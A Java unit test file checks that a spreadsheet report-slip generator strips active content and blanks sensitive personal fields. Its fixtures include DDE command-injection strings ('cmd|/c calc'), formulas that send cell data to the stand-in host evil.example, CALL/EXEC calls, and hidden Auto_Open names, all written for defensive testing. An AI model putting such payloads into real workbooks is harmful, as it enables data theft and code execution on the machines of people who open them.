package org.jibao.slip;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.filesystem.DirectoryEntry;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.jibao.checking.Verdict;
import org.jibao.finding.Language;
import org.jibao.finding.Place;
import org.jibao.finding.Severity;
import org.jibao.slip.SlipWriter.NotMarkedException;
import org.jibao.testkit.Zips;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Nothing that acts goes from a file into its slip. Whatever acts has the word {@code evil} in it here. */
class ActiveContentTest {

    private static final Pattern PARTS = Pattern.compile(
            "\\[Content_Types]\\.xml|_rels/\\.rels|docProps/(?:app|core)\\.xml|xl/(?:workbook|styles|sharedStrings)\\.xml"
                    + "|xl/_rels/workbook\\.xml\\.rels|xl/worksheets/sheet\\d+\\.xml"
                    + "|xl/worksheets/_rels/sheet\\d+\\.xml\\.rels|xl/comments\\d+\\.xml|xl/drawings/vmlDrawing\\d+\\.vml|xl/drawings/drawing\\d+\\.xml");

    private static final List<String> RELATIONS = List.of(
            "officeDocument",
            "extended-properties",
            "core-properties",
            "worksheet",
            "styles",
            "sharedStrings",
            "comments",
            "vmlDrawing",
            "drawing");

    private static final String RELATION =
            "<Relationship Id=\"rIdEvil%d\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\" Target=\"%s\"%s/>";

    /** A workbook with one act more than it should have. */
    private record Act(String name, byte[] file) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static Slip slip() {
        return new Slip(
                "季报",
                "甲局",
                "2026年第三季度",
                "甲局.xlsx",
                Instant.parse("2026-10-09T01:00:00Z"),
                "2026-10-09 09:00",
                Verdict.RETURNED,
                List.of(new SlipFinding(
                        "cell-invalid",
                        Severity.ERROR,
                        false,
                        Place.cell("甲", "A1"),
                        false,
                        "填错了",
                        "请改正",
                        List.of(),
                        List.of(),
                        "")),
                "甲局_2026年第三季度",
                List.of(Language.ZH, Language.EN));
    }

    private static byte[] plain() throws IOException {
        try (XSSFWorkbook workbook = new XSSFWorkbook();
                ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
            Sheet sheet = workbook.createSheet("甲");
            sheet.createRow(0).createCell(0).setCellValue(12);
            sheet.createRow(1).createCell(0).setCellValue("说明");
            workbook.createSheet("乙").createRow(0).createCell(0).setCellValue(30);
            workbook.write(bytes);
            return bytes.toByteArray();
        }
    }

    static Stream<Act> acts() throws IOException {
        return Stream.of(
                new Act("macros", macros()),
                new Act(
                        "DDE",
                        linked(
                                "<ddeLink xmlns:r=\"r\" ddeService=\"evil\" ddeTopic=\"/c calc\"><ddeItems><ddeItem name=\"evil\"/></ddeItems></ddeLink>")),
                new Act("external book", linked("<externalBook/>")),
                new Act(
                        "connections",
                        part(
                                "connections",
                                "connections.xml",
                                "<connections xmlns=\"x\"><connection id=\"1\" name=\"evil\"><webPr url=\"http://evil.example\"/></connection></connections>")),
                new Act(
                        "OLE",
                        sheetPart(
                                "oleObject",
                                "../embeddings/oleObjectEvil.bin",
                                "xl/embeddings/oleObjectEvil.bin",
                                "<oleObjects><oleObject progId=\"evil\" shapeId=\"1\" r:id=\"rIdEvil1\"/></oleObjects>")),
                new Act(
                        "control",
                        sheetPart(
                                "control",
                                "../activeX/activeXEvil.xml",
                                "xl/activeX/activeXEvil.xml",
                                "<controls><control name=\"evil\" shapeId=\"1\" r:id=\"rIdEvil1\"/></controls>")),
                new Act(
                        "picture",
                        sheetPart(
                                "drawing",
                                "../drawings/drawing1.xml",
                                "xl/drawings/drawing1.xml",
                                "<drawing r:id=\"rIdEvil1\"/>")),
                new Act(
                        "hyperlink",
                        sheet(
                                "<hyperlinks><hyperlink ref=\"A1\" r:id=\"rIdEvil1\" tooltip=\"evil\"/></hyperlinks>",
                                RELATION.formatted(
                                        1, "hyperlink", "http://evil.example/", " TargetMode=\"External\""))),
                new Act(
                        "header with a file's path",
                        sheet("<headerFooter><oddHeader>&amp;Zevil&amp;F</oddHeader></headerFooter>", "")),
                new Act(
                        "condition",
                        sheet(
                                "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>evil()</formula></cfRule></conditionalFormatting>",
                                "")),
                new Act(
                        "rule for input",
                        sheet(
                                "<dataValidations count=\"2\"><dataValidation type=\"list\" sqref=\"A1\"><formula1>INDIRECT(\"[evil.xlsx]a!A1\")</formula1></dataValidation><dataValidation type=\"custom\" sqref=\"A2\"><formula1>[1]evil!A1</formula1></dataValidation></dataValidations>",
                                "")),
                new Act(
                        "hidden Auto_Open",
                        named(
                                "<definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">evil!$A$1</definedName><definedName name=\"Auto_Open\" hidden=\"1\">evil()</definedName>")),
                new Act("custom XML", part("customXml", "../customXml/item1.xml", "<evil/>")),
                new Act(
                        "pivot",
                        part(
                                "pivotCacheDefinition",
                                "pivotCache/pivotCacheDefinition1.xml",
                                "<pivotCacheDefinition xmlns=\"x\" refreshOnLoad=\"1\"><cacheSource type=\"external\" connectionId=\"1\"/>evil</pivotCacheDefinition>")),
                new Act("macro sheet", macroSheet()),
                new Act(
                        "printer settings",
                        sheetPart(
                                "printerSettings", "../printerSettings/evil.bin", "xl/printerSettings/evil.bin", "")));
    }

    @ParameterizedTest
    @MethodSource("acts")
    void actsStayBehind(Act act) throws IOException, NotMarkedException {
        assertTrue(everything(act.file()).toLowerCase(Locale.ROOT).contains("evil"), "the file itself");
        byte[] slip = SlipWriter.marked(slip(), Books.of(act.file())).bytes();
        assertHarmless(slip);
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(slip))) {
            assertEquals(12, workbook.getSheet("甲").getRow(0).getCell(0).getNumericCellValue());
            assertEquals(3, workbook.getNumberOfSheets());
            String left = told(workbook);
            boolean told = left.startsWith("本件由原文件的单元格重新做成，下列内容未带过来：") && left.contains("This copy was made anew");
            assertEquals(!act.name().equals("custom XML") && !act.name().equals("printer settings"), told, left);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "_xlfn.WEBSERVICE(\"http://evil.example/\"&A1)",
                "WEBSERVICE(\"http://evil.example/\")",
                "HYPERLINK(\"http://evil.example/\",\"12\")",
                "IF(A1>0,HYPERLINK(\"http://evil.example/\"),1)",
                "INDIRECT(\"[evil.xlsx]a!A1\")",
                "cmd|'/c evil'!A1",
                "[1]evil!A1",
                "'http://evil.example/[x.xlsx]a'!A1",
                "'[evil.xlsx]甲'!A1",
                "RTD(\"evil\",,\"x\")",
                "CALL(\"evil\",\"x\",\"J\")",
                "EXEC(\"evil\")",
                "CELL(\"filename\",A1)&\"evil\"",
                "evil(A1)",
                "evil",
                "_xll.evil(1)",
                "IMPORTXML(\"http://evil.example\",\"/\")",
                "@evil",
                "SUM(evil!A1:A3)",
                "SUM(甲:evil!A1)"
            })
    void formulaThatReachesOutBecomesItsValue(String formula) throws IOException, NotMarkedException {
        byte[] slip = SlipWriter.marked(slip(), Books.of(computing(formula))).bytes();
        assertHarmless(slip);
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(slip))) {
            Cell cell = workbook.getSheet("甲").getRow(0).getCell(1);
            assertEquals(CellType.NUMERIC, cell.getCellType());
            assertEquals(7, cell.getNumericCellValue());
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "A1+乙!A1",
                "SUM(A1:A3,乙!$A$1:B2)",
                "IF(AND(A1>=0,A1=INT(A1)),ROUND(A1/3,2),\"\")",
                "VLOOKUP(A1,乙!A1:B9,2,FALSE)",
                "COUNTIF(A1:A9,\">0\")&\"件\"",
                "-A1%+(2^3)",
                "SUM(甲:乙!A1)"
            })
    void formulaOverOwnCellsStays(String formula) throws IOException, NotMarkedException {
        byte[] slip = SlipWriter.marked(slip(), Books.of(computing(formula))).bytes();
        assertHarmless(slip);
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(slip))) {
            Cell cell = workbook.getSheet("甲").getRow(0).getCell(1);
            assertEquals(formula, cell.getCellFormula().replace("'", ""));
            assertEquals(7, cell.getNumericCellValue());
        }
    }

    @Test
    void formulaWithoutAnEndIsNoTrap() throws IOException, NotMarkedException {
        for (String formula :
                List.of("(".repeat(7000) + "1" + ")".repeat(7000), "-".repeat(8000) + "1", "1" + "+1".repeat(3000))) {
            assertHarmless(
                    SlipWriter.marked(slip(), Books.of(computing(formula))).bytes());
        }
    }

    @Test
    void oldWorkbookWithMacrosLosesThemAndItsLinks() throws IOException, NotMarkedException {
        byte[] slip = SlipWriter.marked(slip(), Books.of(oldWithMacros())).bytes();
        assertHarmless(slip);
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(slip))) {
            Sheet sheet = workbook.getSheet("甲");
            assertEquals(12, sheet.getRow(0).getCell(0).getNumericCellValue());
            assertEquals("A1*2", sheet.getRow(0).getCell(1).getCellFormula());
            assertEquals(CellType.STRING, sheet.getRow(0).getCell(2).getCellType());
            String left = told(workbook);
            assertTrue(left.contains("宏、超链接、名称、批注"), left);
        }
    }

    /** A cell that begins like a formula is a text, and stays one when somebody goes into it. */
    @Test
    void textThatLooksLikeAFormulaIsQuoted() throws IOException, NotMarkedException {
        byte[] file;
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(plain()));
                ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
            workbook.getSheet("甲").getRow(1).createCell(1).setCellValue("=cmd|'/c calc'!A1");
            workbook.write(bytes);
            file = bytes.toByteArray();
        }
        byte[] slip = SlipWriter.marked(slip(), Books.of(file)).bytes();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(slip))) {
            Cell cell = workbook.getSheet("甲").getRow(1).getCell(1);
            assertEquals(CellType.STRING, cell.getCellType());
            assertTrue(cell.getCellStyle().getQuotePrefixed());
        }
    }

    /** The line about what is left out; empty where there is none. */
    private static String told(XSSFWorkbook slip) {
        var row = slip.getSheetAt(0).getRow(5);
        return row == null ? "" : row.getCell(0).getStringCellValue();
    }

    private static void assertHarmless(byte[] slip) {
        Zips zip = Zips.of(slip);
        for (String part : zip.names()) {
            assertTrue(PARTS.matcher(part).matches(), part);
            String text = zip.text(part);
            assertFalse(text.toLowerCase(Locale.ROOT).contains("evil"), part);
            assertFalse(text.contains("macroEnabled"), part);
            // The library makes one for comments, which stand in another part.
            assertFalse(part.contains("/drawings/drawing") && text.contains("Anchor"), part);
            if (part.endsWith(".rels")) {
                assertFalse(text.contains("TargetMode=\"External\""), part);
                Matcher type = Pattern.compile("Type=\"[^\"]*/([^\"/]+)\"").matcher(text);
                while (type.find()) {
                    assertTrue(RELATIONS.contains(type.group(1)), type.group());
                }
            }
        }
        assertFalse(zip.text("xl/workbook.xml").contains("externalReference"));
        Matcher names = Pattern.compile("definedName name=\"([^\"]+)\"").matcher(zip.text("xl/workbook.xml"));
        while (names.find()) {
            assertTrue(List.of("_xlnm.Print_Area", "_xlnm.Print_Titles").contains(names.group(1)), names.group());
        }
    }

    private static String everything(byte[] file) {
        Zips zip = Zips.of(file);
        StringBuilder text = new StringBuilder();
        zip.names().forEach(part -> text.append(part).append(zip.text(part)));
        return text.toString();
    }

    private static byte[] computing(String formula) throws IOException {
        String escaped = formula.replace("&", "&amp;").replace("<", "&lt;").replace("\"", "&quot;");
        return Zips.of(plain())
                .change(
                        "xl/worksheets/sheet1.xml",
                        xml -> xml.replaceFirst(
                                "</c></row>",
                                Matcher.quoteReplacement("</c><c r=\"B1\"><f>" + escaped + "</f><v>7</v></c></row>")))
                .bytes();
    }

    private static byte[] macros() throws IOException {
        return Zips.of(part("vbaProject", "vbaProject.bin", "evil"))
                .change(
                        "[Content_Types].xml",
                        xml -> xml.replace("spreadsheetml.sheet.main+xml", "sheet.macroEnabled.main+xml"))
                .bytes();
    }

    private static byte[] linked(String content) throws IOException {
        String link = "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">" + content
                + "<!-- evil --></externalLink>";
        return Zips.of(part("externalLink", "externalLinks/externalLink1.xml", link))
                .with(
                        "xl/externalLinks/_rels/externalLink1.xml.rels",
                        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                                + RELATION.formatted(
                                        9, "externalLinkPath", "file:///evil.xlsx", " TargetMode=\"External\"")
                                + "</Relationships>")
                .change(
                        "xl/workbook.xml",
                        xml -> xml.replace(
                                "</sheets>",
                                "</sheets><externalReferences><externalReference r:id=\"rIdEvil1\"/></externalReferences>"))
                .bytes();
    }

    /** Of the workbook. */
    private static byte[] part(String type, String target, String content) throws IOException {
        String part = target.startsWith("../") ? target.substring(3) : "xl/" + target;
        return Zips.of(plain())
                .with(part, content)
                .change(
                        "xl/_rels/workbook.xml.rels",
                        xml -> xml.replace(
                                "</Relationships>", RELATION.formatted(1, type, target, "") + "</Relationships>"))
                .bytes();
    }

    private static byte[] sheetPart(String type, String target, String part, String element) throws IOException {
        return Zips.of(sheet(element, RELATION.formatted(1, type, target, "")))
                .with(part, "<evil/>")
                .bytes();
    }

    private static byte[] sheet(String element, String relation) throws IOException {
        return Zips.of(plain())
                .change(
                        "xl/worksheets/sheet1.xml",
                        xml -> xml.replace("</worksheet>", element + "</worksheet>")
                                .replaceFirst(
                                        "<worksheet ",
                                        "<worksheet xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" "))
                .with(
                        "xl/worksheets/_rels/sheet1.xml.rels",
                        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                                + relation + "</Relationships>")
                .bytes();
    }

    private static byte[] named(String names) throws IOException {
        return Zips.of(plain())
                .change(
                        "xl/workbook.xml",
                        xml -> xml.replace("</sheets>", "</sheets><definedNames>" + names + "</definedNames>"))
                .bytes();
    }

    private static byte[] macroSheet() throws IOException {
        return Zips.of(part("xlMacrosheet", "macrosheets/sheet9.xml", "<evil/>"))
                .change(
                        "xl/workbook.xml",
                        xml -> xml.replace(
                                "</sheets>", "<sheet name=\"evil\" sheetId=\"9\" r:id=\"rIdEvil1\"/></sheets>"))
                .bytes();
    }

    private static byte[] oldWithMacros() throws IOException {
        ByteArrayOutputStream plain = new ByteArrayOutputStream();
        try (HSSFWorkbook workbook = new HSSFWorkbook()) {
            Sheet sheet = workbook.createSheet("甲");
            sheet.createRow(0).createCell(0).setCellValue(12);
            sheet.getRow(0).createCell(1).setCellFormula("A1*2");
            sheet.getRow(0).createCell(2).setCellFormula("HYPERLINK(\"http://evil.example\",\"12\")");
            workbook.getCreationHelper().createFormulaEvaluator().evaluateAll();
            var link = workbook.getCreationHelper().createHyperlink(org.apache.poi.common.usermodel.HyperlinkType.URL);
            link.setAddress("http://evil.example/");
            sheet.getRow(0).getCell(0).setHyperlink(link);
            var name = workbook.createName();
            name.setNameName("Auto_Open_evil");
            name.setRefersToFormula("甲!$A$1");
            comment(workbook, sheet);
            workbook.write(plain);
        }
        try (POIFSFileSystem system = new POIFSFileSystem(new ByteArrayInputStream(plain.toByteArray()));
                ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
            DirectoryEntry project = system.getRoot().createDirectory("_VBA_PROJECT_CUR");
            DirectoryEntry code = project.createDirectory("VBA");
            code.createDocument("Module1", new ByteArrayInputStream("evil".getBytes(StandardCharsets.UTF_8)));
            system.writeFilesystem(bytes);
            return bytes.toByteArray();
        }
    }

    private static void comment(Workbook workbook, Sheet sheet) {
        var anchor = workbook.getCreationHelper().createClientAnchor();
        anchor.setCol2(3);
        anchor.setRow2(3);
        var comment = sheet.createDrawingPatriarch().createCellComment(anchor);
        comment.setString(workbook.getCreationHelper().createRichTextString("evil"));
        sheet.getRow(0).getCell(0).setCellComment(comment);
    }

    /** Numbers of persons, and what stands below the label of a sensitive field, are no part of a slip. */
    @Test
    void sensitiveColumnsAndNumbersOfPersonsAreEmpty() throws IOException, NotMarkedException {
        byte[] file;
        try (XSSFWorkbook workbook = new XSSFWorkbook();
                ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
            Sheet sheet = workbook.createSheet("依申请公开台账");
            String[][] rows = {
                {"编号", "申请人", "申请人类别", "收到日期", "收到方式"},
                {"1", "王小明", "自然人", "2026-07-08", "请打13912345678"},
                {"2", "李小红", "自然人", "2026-07-09", "无"}
            };
            for (int row = 0; row < rows.length; row++) {
                for (int column = 0; column < rows[row].length; column++) {
                    (column == 0 ? sheet.createRow(row) : sheet.getRow(row))
                            .createCell(column)
                            .setCellValue(rows[row][column]);
                }
            }
            sheet.getRow(2).createCell(6).setCellValue(13912345678.0);
            workbook.write(bytes);
            file = bytes.toByteArray();
        }
        byte[] slip = SlipWriter.marked(slip(), Books.of(file)).bytes();
        String all = everything(slip);
        assertFalse(all.contains("王小明") || all.contains("李小红") || all.contains("13912345678"));
        Map<String, String> shown = new TreeMap<>();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(slip))) {
            workbook.getSheet("依申请公开台账")
                    .forEach(row ->
                            row.forEach(cell -> shown.put(cell.getAddress().toString(), cell.toString())));
            String line = told(workbook);
            assertTrue(line.startsWith("敏感栏目（申请人）已清空，报回前请重新填写。"), line);
            assertTrue(line.endsWith(" Sensitive columns (申请人) are empty: fill them in again."), line);
        }
        assertEquals(
                List.of("申请人", "", "", "请打***", "***", "自然人"),
                List.of(
                        String.valueOf(shown.get("B1")),
                        String.valueOf(shown.get("B2")),
                        String.valueOf(shown.get("B3")),
                        String.valueOf(shown.get("E2")),
                        String.valueOf(shown.get("G3")),
                        String.valueOf(shown.get("C3"))));
    }
}
